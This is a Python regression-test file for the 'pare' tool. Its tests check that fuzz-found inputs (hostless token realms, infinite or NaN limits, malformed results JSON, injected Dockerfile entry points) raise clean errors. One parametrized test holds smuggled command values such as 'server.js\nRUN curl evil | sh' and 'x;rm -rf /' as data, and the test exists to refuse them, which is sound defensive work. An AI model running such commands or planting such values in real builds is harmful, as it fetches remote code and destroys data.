"""Regression tests for the tracebacks the fuzz harness (tests/fuzz) found: each input below made a
parser of untrusted input raise something other than a PareError (or, for the Dockerfile generator,
let an app's file name add instructions). Each is now one clear PareError."""

from __future__ import annotations

import json

import httpx
import pytest

from pare.engines.dockerfile import generate
from pare.errors import AuthError, InputError, UsageError
from pare.experiment.profiles import parse_profiles
from pare.experiment.results import Results
from pare.native.contract import INIT
from pare.recipes.base import DockerFacts
from pare.stores.registry.auth import Authenticator, static_credentials


def token_answer(www_authenticate: str, status: int, body: bytes) -> str:
    """Authenticator.answer against a token server that answers (status, body). The server is an
    httpx MockTransport: what is under test is parsing its answer, not the network."""
    def serve(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status, content=body, headers={"Content-Type": "application/json"})

    with httpx.Client(transport=httpx.MockTransport(serve)) as http:
        return Authenticator("registry.test", static_credentials("u", "p")).answer(
            www_authenticate, ("repository:app:pull",), http)


@pytest.mark.parametrize("realm", ["http://", "http://\x00", "https://[::1", "http://:80/token", "ftp://x/t"])
def test_a_token_realm_without_a_host_is_an_auth_error(realm: str) -> None:
    """Found: realm "http://" raised ValueError from httpx, "http://\\x00" InvalidURL (now refused by
    the realm check the credentials work added)."""
    with pytest.raises(AuthError, match="realm"):
        token_answer(f'Bearer realm="{realm}"', 200, b'{"token": "t"}')


def test_a_token_lifetime_beyond_floats_is_an_auth_error() -> None:
    """Found: {"expires_in": 1e310} is float('inf') to json, and int(inf) raised OverflowError."""
    challenge = 'Bearer realm="https://registry.test/token"'
    with pytest.raises(AuthError, match="no JSON token"):
        token_answer(challenge, 200, b'{"token": "t", "expires_in": 1e310}')
    assert token_answer(challenge, 200, b'{"token": "t"}') == "Bearer t"


@pytest.mark.parametrize("text", ["[x]\ncpus = inf\n", "[x]\nmemory_mb = nan\n",
                                  "[x]\nbandwidth_mbit = -inf\n"])
def test_machine_profile_limits_must_be_finite(text: str) -> None:
    """Found: memory_mb = nan raised ValueError (int(nan)); cpus = inf passed and would have crashed
    the cgroup set-up later."""
    with pytest.raises(UsageError, match="must be a number"):
        parse_profiles(text, "machines.toml")


def results_file(**changes: object) -> dict[str, object]:
    body: dict[str, object] = {"schema": "pare-bench/1", "pare_version": "0.1.0", "command": ["pare"],
                               "machine": {"fingerprint": "f"}, "profiles": {"micro": {"profile": {}}},
                               "variants": {"app": {"fat": {"role": "fat"}}}}
    body.update(changes)
    return body


@pytest.mark.parametrize("changes", [{"profiles": {"micro": []}}, {"profiles": []},
                                     {"variants": {"app": ["fat"]}}, {"variants": {"app": {"fat": 1}}}])
def test_results_tables_of_the_wrong_shape_are_malformed(changes: dict[str, object]) -> None:
    """Found: "profiles": {"micro": []} loaded, then merging two files raised AttributeError."""
    with pytest.raises(InputError, match="malformed"):
        Results.from_dict(json.loads(json.dumps(results_file(**changes))))
    Results.from_dict(results_file())


@pytest.mark.parametrize("entry", ["server.js\nRUN curl evil | sh", 'a"b.js', "x;rm -rf /", "$(id).js",
                                   "a b.js", "../outside.js", "/abs.js", ""])
@pytest.mark.parametrize("language", ["go", "node", "python"])
def test_an_entry_point_cannot_change_the_generated_dockerfile(entry: str, language: str) -> None:
    """Found: the entry point (package.json's main, a script or binary name) went into RUN and
    ENTRYPOINT lines as it was, so a newline in it added an instruction and a quote broke the
    ENTRYPOINT's JSON. A Go binary's name still goes into RUN and COPY lines, so it is refused; a
    start command goes into ENTRYPOINT as JSON, so it is either refused (a line break) or quoted."""
    command = (f"/app/{entry}",) if language == "go" else (language, entry)
    if language == "go" or "\n" in entry:
        with pytest.raises(UsageError, match=r"entry point|line break"):
            generate(DockerFacts(language, (), entry, command=command))
    else:
        lines = generate(DockerFacts(language, (), entry, command=command)).text.splitlines()
        runtime = "/usr/bin/node" if language == "node" else "/usr/bin/python3"
        assert [line for line in lines if line.startswith("ENTRYPOINT")] == \
            [f"ENTRYPOINT {json.dumps([INIT, '--', runtime, entry])}"]  # under the init
    facts = DockerFacts(language, (), "server", command=("/app/server",) if language == "go" else
                        (language, "src/server.js"))
    assert "src/server.js" in generate(facts).text or "/app/server" in generate(facts).text
